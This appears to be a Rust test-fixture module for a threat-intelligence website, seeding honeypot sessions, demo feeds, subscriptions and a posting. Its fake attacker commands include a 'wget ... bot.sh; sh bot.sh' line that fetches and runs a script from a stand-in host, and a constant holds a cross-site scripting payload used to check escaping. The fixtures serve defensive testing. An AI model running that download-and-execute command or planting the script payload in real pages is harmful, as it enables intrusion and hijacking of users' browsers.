//! Contents that tests of the whole site put into it: sessions, the demo's files, a feed, subscriptions, a posting.

use cybexp_testkit::eventually;
use fantoccini::Locator;

use crate::driver::Driver;
use crate::suite::{ADMIN, PASSWORD, Suite, Visitor, path, session};

/// The address that attacks most.
pub(crate) const ADDRESS: &str = "203.0.113.9";
const HOSTILE: &str = "<img src=x onerror=\"document.title='broken'\">\u{202e}\u{0}";

pub(crate) async fn filled(name: &str) -> Suite {
    fill(Suite::start(name).await).await
}

pub(crate) async fn fill(suite: Suite) -> Suite {
    let commands = [
        "uname -a",
        "cat /proc/cpuinfo | grep name | wc -l",
        "cd /tmp; wget http://203.0.113.77/bot.sh; sh bot.sh",
        HOSTILE,
    ];
    let mut records = session(
        "8d0c0817",
        ADDRESS,
        &["123456", "123456", "support", "admin"],
        &commands,
    );
    for n in 0..6 {
        let address = format!("198.51.100.{n}");
        records.extend(session(
            &format!("9e1d192{n}"),
            &address,
            &["root", "admin"],
            &["uname -a"],
        ));
    }
    suite.have("cowrie", &records, ("ipv4", ADDRESS, 11)).await;
    suite
}

/// Submits the demo's files besides, and waits until the countries of their addresses are counted.
pub(crate) async fn with_the_demo(suite: &Suite) {
    let demo = |name: &str| {
        let path = format!("{}/../../demo/{name}", env!("CARGO_MANIFEST_DIR"));
        std::fs::read_to_string(path).unwrap()
    };
    let submit = async |typetag: &str, name: &str, lines: bool| {
        let text = demo(name);
        let records: Vec<&[u8]> = match lines {
            true => text.lines().map(str::as_bytes).collect(),
            false => vec![text.as_bytes()],
        };
        suite.submit_now(typetag, name, &records).await;
    };
    submit("cowrie", "cowrie.json", true).await;
    submit("sighting", "sightings.json", true).await;
    submit("openphish_feed", "openphish.txt", false).await;
    submit("email", "mail.eml", false).await;
    submit("misp_event", "misp.json", false).await;
    eventually("countries are known", async || {
        let page = suite.person(ADMIN).await.get("/overview").await;
        page.body.contains("class=\"dot\"") && page.text().contains("DE")
    })
    .await;
}

/// Subscribes to a value and a kind of events.
pub(crate) async fn with_subscriptions(person: &mut Visitor) {
    let csrf = person.get("/watch").await.csrf();
    let wanted = [
        [
            ("what", "value"),
            ("data", "203.0.113.45"),
            ("name", "that scanner"),
        ],
        [
            ("what", "events"),
            ("sub_type", "file_download"),
            ("name", "payloads"),
        ],
    ];
    for fields in wanted {
        let fields = fields.map(|(name, text)| (name, text.to_owned()));
        let fields = [fields.as_slice(), &[("csrf", csrf.clone())]].concat();
        let made = person.post("/watch", &fields).await;
        assert_eq!(made.status, 303, "{}", made.text());
    }
}

/// Posts a record by hand, and returns the address that tells of it.
pub(crate) async fn posted(suite: &Suite, admin: &mut Visitor) -> String {
    let csrf = admin.get("/post").await.csrf();
    let record = br#"{"ipv4": "203.0.113.44"}"#;
    let parts: [(&str, Option<&str>, &[u8]); 2] = [
        ("csrf", None, csrf.as_bytes()),
        ("file", Some("one.json"), record),
    ];
    let check = admin.upload("/post", &parts).await;
    let send = [
        ("csrf", csrf),
        ("id", check.value_of("id")),
        ("typetag0", "sighting".to_owned()),
        ("timezone", "UTC".to_owned()),
        ("org", suite.site.orgid.to_string()),
        ("do", "send".to_owned()),
    ];
    let sent = admin.post("/post/send", &send).await;
    assert_eq!(sent.status, 303, "{}", sent.text());
    eventually("the posted record is archived", async || {
        let page = admin.clone().get(&sent.location).await;
        page.body.contains("in the archive") && !page.body.contains("http-equiv")
    })
    .await;
    sent.location
}

/// Makes a feed.
pub(crate) async fn with_a_feed(suite: &Suite, admin: &mut Visitor) {
    let fields = [
        ("csrf", admin.get("/feeds").await.csrf()),
        ("name", "blocklist".to_owned()),
        (
            "description",
            "Addresses that attacked within 30 days".to_owned(),
        ),
        ("org", suite.site.orgid.to_string()),
        ("sub_type", "ipv4".to_owned()),
        ("sub_type", "hostname".to_owned()),
        ("context", "malicious".to_owned()),
        ("min_count", "3".to_owned()),
        ("keep_s", "2592000".to_owned()),
        ("tlp", "green".to_owned()),
    ];
    let added = admin.post("/feeds", &fields).await;
    assert_eq!(added.status, 200, "{}", added.text());
}

/// Signs the admin in, on the way to the page of an address.
pub(crate) async fn sign_in(suite: &Suite, driver: &Driver) {
    let address = path("/value", &[("type", "ipv4"), ("data", ADDRESS)]);
    driver.open(&suite.base, &address).await;
    driver.fill("email", ADMIN).await;
    driver.fill("password", PASSWORD).await;
    driver.click(Locator::Css("button.main")).await;
    driver
        .until("return location.pathname === '/value' && document.readyState === 'complete'")
        .await;
}
